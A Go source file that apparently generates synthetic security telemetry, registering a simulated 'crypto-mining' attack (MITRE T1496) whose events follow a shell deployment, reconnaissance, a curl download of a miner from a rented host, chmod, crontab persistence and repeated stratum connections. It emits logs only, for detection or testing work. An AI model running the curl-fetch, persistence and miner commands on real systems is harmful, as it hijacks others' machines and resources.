package attack

import (
	"fmt"

	"socrates/generator/tick"
	"socrates/generator/trace"
)

func init() {
	register(Activity{Name: "crypto-mining", Doc: "A miner is fetched, kept by cron and run.", Technique: "T1496", Tactic: "Impact", Params: []Param{atServer, fromRented, {"implant", FileKind, "the miner", false}}, Needs: needServer, Run: mining})
}

func mining(e trace.Env, at int64, a Args) {
	d, from, im := a.Device("at"), a.Address("from"), a.File("implant")
	bash := deployShell(e, d, at-e.R.Between(9*tick.Second, 40*tick.Second), e.R.Between(20_000, 60_000))
	user := bash.User
	e.Started(bash)
	step := func() int64 { at += e.R.Around(6*tick.Second, 4*tick.Second); return at }
	for _, c := range [][2]string{{"id", "id"}, {"uname", "uname -a"}, {"nproc", "nproc"}} {
		e.Start(d, e.O.Image(d, c[0]), user, bash, step(), c[1])
	}
	get := e.Start(d, e.O.Image(d, "curl"), user, bash, step(), fmt.Sprintf("curl -fsSL http://%s/%s -o /tmp/%s", from.IP, im.File, im.File))
	e.Connect(get, get.Created+e.R.Between(100*tick.Millisecond, 900*tick.Millisecond), trace.Flow{LocalIP: d.IP, RemoteIP: from.IP, Port: 80, URL: from.IP, Site: d.Site, Sent: 214, Received: im.Size})
	e.File(get, step(), trace.FileEvent{Action: "FileCreated", Path: "/tmp/" + im.File, Image: im})
	e.Start(d, e.O.Image(d, "chmod"), user, bash, step(), "chmod +x /tmp/"+im.File)
	cron := e.Start(d, e.O.Image(d, "crontab"), user, bash, step(), "crontab -")
	e.Syslog(cron.Created+e.R.Between(2*tick.Millisecond, 40*tick.Millisecond), d, "cron", "info", "crontab", cron.PID, "(deploy) REPLACE (deploy)")
	miner := e.Start(d, im, user, bash, step(), "/tmp/"+im.File+" -o "+from.IP+":3333 --donate-level 0")
	for range 12 {
		e.Connect(miner, at, trace.Flow{LocalIP: d.IP, RemoteIP: from.IP, Port: 3333, Site: d.Site, App: "stratum", Sent: e.R.Between(3600, 4800), Received: e.R.Between(2100, 3100)})
		at += e.R.Around(10*tick.Minute, 2*tick.Minute)
	}
}
